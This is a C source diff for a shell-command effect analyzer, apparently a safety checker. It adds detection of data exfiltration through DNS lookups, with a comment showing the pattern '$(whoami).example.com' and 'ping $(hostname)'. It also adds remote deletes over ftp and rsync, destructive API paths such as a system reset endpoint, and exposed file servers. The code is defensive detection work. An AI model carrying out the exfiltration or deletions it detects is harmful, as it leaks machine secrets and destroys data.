@@ -18,6 +18,37 @@ static void add_address(struct run *r, const struct call *c, enum effect_kind ki
 				  .places = local_place(address_host(address)) });
 }
 
+/* Something was read before that lies there; 0: what programs tell of the machine and its user. */
+static bool has_read(const struct run *r, unsigned places)
+{
+	for (size_t i = 0; i < r->e->n; i++) {
+		const struct effect *e = &r->e->p[i];
+
+		if (e->kind == EFFECT_READ && !e->remote &&
+		    (places ? (e->places & places) != 0 : !e->target.n))
+			return true;
+	}
+	return false;
+}
+
+/* $(whoami).example.com, ping $(hostname).x.org: a name that carries something away. */
+static bool run_lookup(struct run *r, const struct call *c)
+{
+	for (size_t i = 1; i < c->n; i++) {
+		struct str w = c->words[i];
+		ptrdiff_t dot = str_chr(w, '.', 0);
+
+		if (value_known(w) || dot <= 0 || str_chr(w, '.', (size_t)dot + 1) < 0 ||
+		    !(has_read(r, 0) || has_read(r, PLACE_SYSTEM | PLACE_SECRET)))
+			continue;
+		call_add(r, c,
+			 (struct effect){ .kind = EFFECT_SEND,
+					  .target = value_shown(r->a, w),
+					  .forced = true });
+	}
+	return false;
+}
+
 /* ---- curl, wget ---- */
 
 static const char curl_valued[] =
@@ -82,7 +113,8 @@ static bool is_store(struct str url)
 static bool is_deleting_path(struct str url)
 {
 	static const char *const paths[] = { "/_delete_by_query", "/tsdb/delete_series",
-					     "/purge_cache", "/delete_all", "/deleteAll" };
+					     "/purge_cache",      "/delete_all",
+					     "/deleteAll",        "/Actions/ComputerSystem.Reset" };
 
 	for (size_t i = 0; i < ARRAY_LEN(paths); i++)
 		if (str_find(url, str_from(paths[i]), 0) >= 0)
@@ -140,7 +172,7 @@ static void curl_url(struct run *r, const struct call *c, const struct args *a, 
 		run_emit(r, file_read(r, url, &text) ? text : ANY);
 		return;
 	}
-	sends |= value_has(url, MARK_SECRET);
+	sends |= value_has(url, MARK_SECRET) || (!value_known(url) && has_read(r, PLACE_SYSTEM));
 	add_address(r, c, sends ? EFFECT_SEND : EFFECT_FETCH, url);
 	see_deleting(r, c, method ? method->value : STR("GET"),
 		     socket && str_ends(socket->value, STR("docker.sock")) ? STR(":2375/") : url);
@@ -292,6 +324,19 @@ static bool is_remote(struct str path)
 	return str_find(path, STR("://"), 0) > 0 || (colon > 1 && (slash < 0 || colon < slash));
 }
 
+/* HOST:/path, as a file of that machine. */
+static void remote_file(struct run *r, const struct call *c, enum effect_kind kind, struct str to)
+{
+	ptrdiff_t colon = str_chr(to, ':', 0);
+	bool was = r->e->remote;
+
+	if (colon <= 0 || str_chr(to, '/', 0) != colon + 1 || str_starts(to, STR("rsync:")))
+		return;
+	r->e->remote = true;
+	call_path(r, c, (struct effect){ .kind = kind }, str_sub(to, (size_t)colon + 1, to.n));
+	r->e->remote = was;
+}
+
 static bool run_rsync(struct run *r, const struct call *c)
 {
 	struct args a;
@@ -336,6 +381,7 @@ static bool run_rsync(struct run *r, const struct call *c)
 	}
 	if (is_remote(to)) {
 		add_address(r, c, EFFECT_SEND, to);
+		remote_file(r, c, EFFECT_OVERWRITE, to);
 	} else {
 		call_path(r, c, (struct effect){ .kind = EFFECT_OVERWRITE, .recursive = true },
 			  arena_printf(r->a, "%.*s/\1", STR_ARG(to)));
@@ -471,6 +517,8 @@ static const struct server {
 	{ "http.server", NULL, "-b -d -p --bind --directory --protocol", "-d|--directory",
 	  "-b|--bind" },
 	{ "httpd", NULL, "-h -p -u -r -c --bind-address", "-h", "-p|--bind-address" },
+	{ "pyftpdlib", NULL, "-d -p -i -u -P --directory --port --interface", "-d|--directory",
+	  "-i|--interface" },
 	{ "caddy", "file-server", "--root --listen --domain -r -l", "-r|--root", "-l|--listen" },
 };
 
@@ -489,7 +537,8 @@ static bool run_server(struct run *r, const struct call *c)
 		return false;
 	dir = *s->dir ? args_option(&a, s->dir) : NULL;
 	bind = args_option(&a, s->bind);
-	if (bind && address_is_local(address_host(bind->value)))
+	if (bind && address_is_local(address_host(bind->value)) &&
+	    !str_starts(bind->value, STR("0.0.0.0")))
 		return true;
 	call_path(r, c, (struct effect){ .kind = EFFECT_READ, .recursive = true },
 		  dir                                                           ? dir->value
@@ -501,13 +550,42 @@ static bool run_server(struct run *r, const struct call *c)
 
 /* ---- sftp, ftp, lftp, smbclient: commands of their own ---- */
 
+/* rm -r x; mirror -R --delete x y: of the other machine. */
+static void transfer_deletes(struct run *r, const struct call *c, struct str verb, struct str line)
+{
+	static const char *const deletes[] = { "rm",      "rmdir", "mrm",     "del", "delete",
+					       "mdelete", "glob",  "deltree", "-rm", NULL };
+	bool mirrors = str_eqz(verb, "mirror") && str_find(line, STR("--delete"), 0) >= 0 &&
+		       (str_find(line, STR("-R"), 0) >= 0 || str_find(line, STR("--rev"), 0) >= 0);
+	bool was = r->e->remote, tree = mirrors || word_in_text(verb, "rmdir mrm mdelete deltree");
+	struct str path;
+
+	if (!mirrors && !sh_is_among(verb, deletes))
+		return;
+	r->e->remote = true;
+	while (str_split(&line, ' ', &path)) {
+		tree |= path.n > 1 && path.p[0] == '-' && str_chr(path, 'r', 0) > 0;
+		if (!path.n || path.p[0] == '-' || (mirrors && line.n))
+			continue;
+		tree |= str_chr(path, '*', 0) >= 0;
+		path = glob_value(r, path);
+		if (path.p[0] != '/') /* where it starts is not known */
+			path = arena_printf(r->a, "\1/%.*s", STR_ARG(path));
+		call_path(
+			r, c,
+			(struct effect){ .kind = EFFECT_DELETE, .recursive = tree, .forced = tree },
+			path);
+	}
+	r->e->remote = was;
+}
+
 /* put x y; mput *.c; mirror -R dir */
 static void transfer_line(struct run *r, const struct call *c, struct str line)
 {
 	static const char *const puts[] = { "put",  "mput", "reput",  "send", "append",
 					    "-put", "@put", "mirror", NULL };
 	struct str verb, path;
-	bool mirrors;
+	bool mirrors, tree = false;
 
 	line = str_trim(line);
 	if (str_starts(line, STR("!"))) {
@@ -518,17 +596,26 @@ static void transfer_line(struct run *r, const struct call *c, struct str line)
 		return;
 	if (str_eqz(verb, "local"))
 		call_shell(r, c, line);
+	transfer_deletes(r, c, verb, line);
 	if (!sh_is_among(verb, puts))
 		return;
 	mirrors = str_eqz(verb, "mirror");
 	if (mirrors && str_find(line, STR("-R"), 0) < 0)
 		return;
 	while (str_split(&line, ' ', &path)) {
+		tree |= str_eqz(path, "-r");
 		if (!path.n || path.p[0] == '-')
 			continue;
-		call_path(r, c, (struct effect){ .kind = EFFECT_READ, .recursive = mirrors }, path);
-		if (!str_eqz(verb, "mput"))
-			return;
+		call_path(r, c,
+			  (struct effect){ .kind = EFFECT_READ, .recursive = mirrors || tree },
+			  path);
+		if (str_eqz(verb, "mput"))
+			continue;
+		line = str_trim(line);
+		if (line.n && line.p[0] == '/')
+			remote_file(r, c, EFFECT_OVERWRITE,
+				    arena_printf(r->a, "h:%.*s", STR_ARG(line)));
+		return;
 	}
 }
 
@@ -549,6 +636,7 @@ bool run_transfer(struct run *r, const struct call *c)
 }
 
 const struct special special_network[] = {
+	{ "dig host nslookup drill kdig ping ping6", run_lookup },
 	{ "http https xh xhs", run_http },
 	{ "ftp lftp ncftp smbclient tnftp", run_transfer },
 	{ "curl", run_curl },
@@ -557,7 +645,7 @@ const struct special special_network[] = {
 	{ "nc ncat netcat", run_nc },
 	{ "socat websocat", run_socat },
 	{ "serve http-server live-server sirv darkhttpd miniserve static-web-server http.server httpd "
-	  "caddy",
+	  "caddy pyftpdlib",
 	  run_server },
 	{ NULL, NULL },
 };
